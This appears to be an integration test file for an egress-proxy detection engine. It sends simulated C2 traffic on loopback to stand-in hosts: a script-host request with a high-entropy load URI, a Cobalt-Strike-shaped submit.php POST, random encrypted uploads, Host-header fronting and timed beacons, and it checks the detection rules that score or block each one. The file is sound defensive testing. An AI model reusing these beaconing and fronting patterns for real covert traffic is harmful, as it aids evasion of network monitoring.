/**
 * The detection engine through the live proxy: features and the score in the records, the signals in the
 * metrics, weights from the policy file, GeoIP from a real .mmdb, beacons, and baselines that survive a
 * restart (SQLite) and are shared by two instances (Redis). Real clients (curl, node:http) and servers on
 * loopback.
 */
import { createHash, randomBytes } from 'node:crypto';
import http from 'node:http';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { field, startHarness, type Harness } from '../helpers/harness.js';
import { curl, startOrigin, type TestServer } from '../helpers/servers.js';
import { eid3, freeSourcePort } from '../helpers/sysmon.js';
import { writeMmdb } from '../helpers/mmdb-writer.js';
import { startRedis, type TestRedis } from '../helpers/redis.js';
import type { EcsRecord } from '../../src/observe/ecs.js';

const NAMES = { 'c2-alpha.test': { A: ['127.0.0.1'] }, 'portal.example.test': { A: ['127.0.0.1'] } };

/** An origin that answers 200 with the MD5 of the body it received. */
function md5Origin(): Promise<TestServer> {
  return startOrigin((req, res) => {
    const hash = createHash('md5');
    req.on('data', (c: Buffer) => hash.update(c));
    req.on('end', () => res.end(hash.digest('hex')));
  });
}

async function postHint(h: Harness, port: number, image: string): Promise<void> {
  const res = await fetch(`${h.adminUrl}/v1/hints`, {
    method: 'POST',
    headers: { authorization: 'Bearer test-token', 'content-type': 'application/x-ndjson' },
    body: JSON.stringify(eid3(port, image)),
  });
  expect(res.status).toBe(202);
}

/** One request through the proxy from `image` (a Sysmon hint for the client port first). */
async function requestAs(h: Harness, image: string, url: string, extra: string[] = []): Promise<EcsRecord> {
  const port = await freeSourcePort();
  await postHint(h, port, image);
  const r = await curl(['-x', h.proxyUrl, '--local-port', String(port), ...extra, url]);
  expect(r.code).toBe(0);
  return h.waitForRecord((x) => field(x, 'source.port') === port);
}

describe('detection engine through the live proxy', () => {
  let h: Harness;
  let origin: TestServer;
  let dir: string;

  beforeAll(async () => {
    origin = await md5Origin();
    dir = await mkdtemp(join(tmpdir(), 'egress-detect-'));
    // GeoIP: a City and an ASN database that place loopback in the Netherlands, AS64500.
    await writeFile(join(dir, 'city.mmdb'), writeMmdb({ databaseType: 'GeoLite2-City', ipVersion: 6, networks: [{ cidr: '127.0.0.0/8', data: { country: { iso_code: 'NL' } } }] }));
    await writeFile(join(dir, 'asn.mmdb'), writeMmdb({ databaseType: 'GeoLite2-ASN', ipVersion: 6, networks: [{ cidr: '127.0.0.0/8', data: { autonomous_system_number: 64500, autonomous_system_organization: 'Example Transit' } }] }));
    h = await startHarness({
      policy: `version: 1
scoring:
  weights:
    ua_missing: 0
rules:
  - id: block-known-c2-uri
    when:
      egress.features.uri_c2_shape: { exists: true }
    action: block
    severity: high
  - id: alert-encrypted-upload
    when:
      egress.features.body_encrypted: true
    action: tag
    severity: medium
`,
      dns: NAMES,
      config: { geoip: `geoip:\n  city: "${join(dir, 'city.mmdb')}"\n  asn: "${join(dir, 'asn.mmdb')}"`, baseline: 'baseline:\n  store: memory\n  learning: 0s' },
    });
  });
  afterAll(async () => {
    await h.stop();
    await origin.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('a script host with a high-entropy URI and a base64 query scores above a browser fetching a plain page', async () => {
    const random = 'aZ3kP9qLm2XvB7nR4tW8yE1uC6oD0sFhJ5gT';
    const c2 = await requestAs(h, 'C:\\Users\\bob\\AppData\\Local\\Temp\\wscript.exe', `http://c2-alpha.test:${origin.port}/${random}/load?id=U2FsdGVkX1%2B9k3lq0bWxYzQ4Tn8aPq2Rw7Lk3mN`);
    const plain = await requestAs(h, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', `http://portal.example.test:${origin.port}/index.html`, ['-A', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36']);
    expect(Number(field(c2, 'egress.score'))).toBeGreaterThan(Number(field(plain, 'egress.score')));
    expect(Number(field(c2, 'egress.score'))).toBeGreaterThanOrEqual(50);
    expect(field(c2, 'egress.features.uri_random')).toBe(true);
    expect(Number(field(c2, 'egress.features.uri_entropy'))).toBeGreaterThan(4.5);
    expect(field(c2, 'egress.features.process_category')).toBe('script-host');
    expect(field(c2, 'egress.features.process_user_writable')).toBe(true);
    const reasons = field(c2, 'egress.reasons') as string[];
    expect(reasons.some((r) => /^uri segment entropy \d\.\d bits\/char .*\(\+35 uri_random\)$/.test(r))).toBe(true);
    expect(reasons.some((r) => r.endsWith('(+25 process_script_host)'))).toBe(true);
    expect(field(c2, 'egress.signals')).toEqual(expect.arrayContaining(['uri_random', 'process_script_host', 'process_user_writable']));
    // The origin listens on a random high port and the baseline is new (learning 0s): the browser's flow has
    // those signals, and none of the URI's or the process's.
    expect(field(plain, 'egress.signals')).toEqual(expect.arrayContaining(['uncommon_port']));
    for (const s of ['uri_random', 'uri_encoded', 'process_script_host', 'process_user_writable']) expect(field(plain, 'egress.signals')).not.toContain(s);
    expect(field(plain, 'egress.features.uri_random')).toBe(false);
    expect(field(plain, 'egress.features.ua_family')).toBe('browser');
    // JA4H on every plain HTTP request (FoxIO): method, version, cookie/referer flags, header count, language.
    expect(field(plain, 'http.request.ja4h')).toMatch(/^ge11nn0[0-9]0000_[0-9a-f]{12}_0{12}_0{12}$/);
    // GeoIP/ASN of the address dialled.
    expect(field(plain, 'destination.geo.country_iso_code')).toBe('NL');
    expect(field(plain, 'destination.as.number')).toBe(64500);
    expect(field(plain, 'destination.as.organization.name')).toBe('Example Transit');
    expect(field(plain, 'destination.registered_domain')).toBe('example.test');
  });

  it('a weight set to 0 in the policy file (scoring.weights) removes its signal', async () => {
    const rec = await requestAs(h, 'C:\\Windows\\System32\\rundll32.exe', `http://127.0.0.1:${origin.port}/x`, ['-A', '']);
    expect(field(rec, 'egress.features.ua_missing')).toBe(true);
    expect(field(rec, 'egress.signals')).not.toContain('ua_missing');
    expect(field(rec, 'egress.signals')).toContain('process_lolbin');
  });

  it('a rule on a feature decides: a known C2 URI shape is blocked before any byte reaches the origin', async () => {
    const before = origin.connections();
    const r = await curl(['-x', h.proxyUrl, '-A', 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)', `http://127.0.0.1:${origin.port}/submit.php?id=1187437`, '-d', 'AAAA']);
    expect(r.status).toBe(403);
    const rec = await h.waitForRecord((x) => field(x, 'url.path') === '/submit.php');
    expect(field(rec, 'rule.id')).toBe('block-known-c2-uri');
    expect(field(rec, 'egress.features.uri_c2_shape')).toMatch(/cobalt/);
    expect(origin.connections()).toBe(before);
  });

  it('an encrypted-looking upload is measured as it streams (body intact) and settles a tag rule at the end', async () => {
    const body = randomBytes(4096);
    const echoed = await new Promise<string>((resolve, reject) => {
      const req = http.request({ host: '127.0.0.1', port: h.port, method: 'POST', path: `http://127.0.0.1:${origin.port}/upload-random`, headers: { host: `127.0.0.1:${origin.port}`, 'content-length': body.length } }, (res) => {
        let text = '';
        res.on('data', (c: Buffer) => (text += c.toString()));
        res.on('end', () => resolve(text));
      });
      req.on('error', reject);
      req.end(body);
    });
    expect(echoed).toBe(createHash('md5').update(body).digest('hex'));
    const rec = await h.waitForRecord((x) => field(x, 'url.path') === '/upload-random');
    expect(field(rec, 'egress.features.body_encrypted')).toBe(true);
    expect(Number(field(rec, 'egress.features.body_entropy'))).toBeGreaterThan(7.5);
    expect(field(rec, 'egress.rules')).toContain('alert-encrypted-upload');
    expect(field(rec, 'event.kind')).toBe('alert');
  });

  it('a Host header that names another host than the request target is a fronting signal', async () => {
    const rec = await requestAs(h, 'C:\\Windows\\System32\\svchost.exe', `http://portal.example.test:${origin.port}/h`, ['-H', 'Host: cdn-front.example']);
    expect(field(rec, 'egress.features.host_mismatch')).toBe(true);
    expect((field(rec, 'egress.reasons') as string[]).some((r) => r.includes('Host header "cdn-front.example"'))).toBe(true);
  });

  it('connections on a timer from one client to one destination get a beacon score', async () => {
    const get = (): Promise<void> =>
      new Promise((resolve, reject) => {
        const req = http.request({ host: '127.0.0.1', port: h.port, path: `http://c2-alpha.test:${origin.port}/beacon`, agent: false }, (res) => {
          res.resume();
          res.on('end', () => resolve());
        });
        req.on('error', reject);
        req.end();
      });
    for (let i = 0; i < 6; i++) {
      await get();
      await new Promise((r) => setTimeout(r, 300));
    }
    await h.waitForRecord((x) => field(x, 'url.path') === '/beacon' && field(x, 'egress.beacon.connections') === 6);
    const last = h.records.filter((x) => field(x, 'url.path') === '/beacon').at(-1) as EcsRecord;
    expect(Number(field(last, 'egress.beacon.score'))).toBeGreaterThanOrEqual(0.6);
    expect(Number(field(last, 'egress.beacon.interval_ms'))).toBeGreaterThan(250);
    expect((field(last, 'egress.reasons') as string[]).some((r) => r.startsWith('beacon: 6 connections every'))).toBe(true);
  });

  it('exposes the score histogram, the signals counter and the beacon and baseline gauges', async () => {
    const text = await h.metrics();
    expect(text).toMatch(/egress_score_bucket\{le="100",protocol="http"\} [1-9]/);
    expect(text).toMatch(/egress_reasons_total\{reason="uri_random"\} [1-9]/);
    expect(text).toMatch(/egress_beacon_candidates \d+/);
    expect(text).toMatch(/egress_baseline_entries [1-9]/);
  });
});

describe('baselines through the live proxy', () => {
  let origin: TestServer;
  let dir: string;
  const policy = 'version: 1\n';

  beforeAll(async () => {
    origin = await md5Origin();
    dir = await mkdtemp(join(tmpdir(), 'egress-baseline-'));
  });
  afterAll(async () => {
    await origin.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('survive a restart (SQLite): a destination first seen before the restart is known after it', async () => {
    const config = { baseline: `baseline:\n  store: sqlite\n  dir: "${join(dir, 'data')}"\n  learning: 0s` };
    const first = await startHarness({ policy, dns: NAMES, config });
    try {
      const rec = await requestAs(first, 'C:\\Windows\\System32\\rundll32.exe', `http://c2-alpha.test:${origin.port}/one`);
      expect(field(rec, 'egress.features.first_seen')).toBe(true);
      expect((field(rec, 'egress.reasons') as string[]).some((r) => r.startsWith('rundll32.exe never contacted c2-alpha.test before'))).toBe(true);
    } finally {
      await first.stop();
    }
    const second = await startHarness({ policy, dns: NAMES, config });
    try {
      const rec = await requestAs(second, 'C:\\Windows\\System32\\rundll32.exe', `http://c2-alpha.test:${origin.port}/two`);
      expect(field(rec, 'egress.features.first_seen')).toBe(false);
      expect(field(rec, 'egress.baseline.learning')).toBeUndefined();
    } finally {
      await second.stop();
    }
  });

  it('a baseline feature is known when a plain HTTP request is decided, not only in its record', async () => {
    // A (contrived) rule that blocks what rundll32.exe has contacted before: the first request passes and is
    // learned; the second is blocked before anything is forwarded.
    const rule = 'version: 1\nrules:\n  - id: seen-before\n    when: { process.name: rundll32.exe, egress.features.first_seen: false }\n    action: block\n';
    const h = await startHarness({ policy: rule, dns: NAMES, config: { baseline: 'baseline:\n  store: memory\n  learning: 0s' } });
    try {
      const first = await requestAs(h, 'C:\\Windows\\System32\\rundll32.exe', `http://c2-alpha.test:${origin.port}/first`);
      expect(field(first, 'event.action')).toBe('allow');
      const second = await requestAs(h, 'C:\\Windows\\System32\\rundll32.exe', `http://c2-alpha.test:${origin.port}/second`);
      expect(field(second, 'event.action')).toBe('block');
      expect(field(second, 'rule.id')).toBe('seen-before');
    } finally {
      await h.stop();
    }
  });

  it('records say when the baseline is still learning, and claim no rarity then', async () => {
    const h = await startHarness({ policy, dns: NAMES, config: { baseline: 'baseline:\n  store: memory\n  learning: 1h' } });
    try {
      const rec = await requestAs(h, 'C:\\Windows\\System32\\rundll32.exe', `http://c2-alpha.test:${origin.port}/learning`);
      expect(field(rec, 'egress.baseline.learning')).toBe(true);
      expect(field(rec, 'egress.features.first_seen')).toBeUndefined();
    } finally {
      await h.stop();
    }
  });

  describe('shared by two instances (Redis)', () => {
    let redis: TestRedis;
    beforeAll(async () => {
      redis = await startRedis();
    });
    afterAll(async () => {
      await redis.close();
    });

    it('what one replica learns, the other knows', async () => {
      const config = { baseline: `baseline:\n  store: "${redis.url}"\n  learning: 0s` };
      const a = await startHarness({ policy, dns: NAMES, config });
      const b = await startHarness({ policy, dns: NAMES, config });
      try {
        const first = await requestAs(a, 'C:\\Windows\\System32\\mshta.exe', `http://c2-alpha.test:${origin.port}/a`);
        expect(field(first, 'egress.features.first_seen')).toBe(true);
        // Replicas share within about a second (baseline.flush batches, then Redis; docs/scoring.md).
        await new Promise((r) => setTimeout(r, 2500));
        const rec = await requestAs(b, 'C:\\Windows\\System32\\mshta.exe', `http://c2-alpha.test:${origin.port}/b`);
        const seen = field(rec, 'egress.features.first_seen');
        expect(seen).toBe(false);
      } finally {
        await a.stop();
        await b.stop();
      }
    });
  });
});

describe('a verdict on egress.score through the live proxy', () => {
  it('a CONNECT waits for its first bytes, then is blocked on the final score before anything is dialled', async () => {
    const { startTcpServer, openTunnel } = await import('../helpers/servers.js');
    const sink = await startTcpServer();
    const h = await startHarness({
      policy: 'version: 1\nrules:\n  - id: score-block\n    when: { egress.score: { gte: 40 } }\n    action: block\n',
      config: { baseline: 'baseline:\n  store: memory', proxy: 'proxy:\n  listen: "127.0.0.1:0"\n  timeouts: { client_hello: 500ms }' },
    });
    try {
      const { socket, head } = await openTunnel(h.port, `127.0.0.1:${sink.port}`);
      expect(head).toMatch(/^HTTP\/1\.1 200/);
      socket.write('SSH-2.0-OpenSSH_9.0\r\n');
      await new Promise((r) => socket.on('close', r));
      const rec = await h.waitForRecord((x) => field(x, 'destination.port') === sink.port);
      expect(field(rec, 'event.action')).toBe('block');
      expect(field(rec, 'rule.id')).toBe('score-block');
      expect(Number(field(rec, 'egress.score'))).toBeGreaterThanOrEqual(40);
      expect(sink.connections()).toBe(0);
    } finally {
      await h.stop();
      await sink.close();
    }
  });
});

describe('follow-up records of late hints are scored', () => {
  it('a late hint gets the process features, so a rule on the process category names what would have been blocked', async () => {
    const origin = await md5Origin();
    const h = await startHarness({
      policy: 'version: 1\nrules:\n  - id: lolbin-late\n    when: { egress.features.process_category: lolbin, url.path: { startswith: /late } }\n    action: block\n    severity: high\n',
      config: { baseline: 'baseline:\n  store: memory', policy: 'policy:\n  files: ["POLICY_FILE"]\n  hint_wait: 200ms' },
    });
    try {
      // Make 127.0.0.1 a managed endpoint (it has sent telemetry), then make a request whose hint comes late.
      await postHint(h, await freeSourcePort(), 'C:\\Windows\\explorer.exe');
      const port = await freeSourcePort();
      const r = await curl(['-x', h.proxyUrl, '--local-port', String(port), `http://127.0.0.1:${origin.port}/late`]);
      expect(r.status).toBe(200);
      const first = await h.waitForRecord((x) => field(x, 'url.path') === '/late' && field(x, 'egress.followup_of') === undefined);
      expect(field(first, 'process.name')).toBeUndefined();
      await postHint(h, port, 'C:\\Windows\\System32\\regsvr32.exe');
      const followUp = await h.waitForRecord((x) => field(x, 'egress.followup_of') === field(first, 'event.id'));
      expect(field(followUp, 'egress.features.process_category')).toBe('lolbin');
      expect(field(followUp, 'egress.late_verdict')).toBe('block');
      expect(field(followUp, 'egress.late_rule')).toBe('lolbin-late');
      expect(field(followUp, 'event.kind')).toBe('alert');
      expect(field(followUp, 'egress.signals')).toContain('process_lolbin');
    } finally {
      await h.stop();
      await origin.close();
    }
  });
});
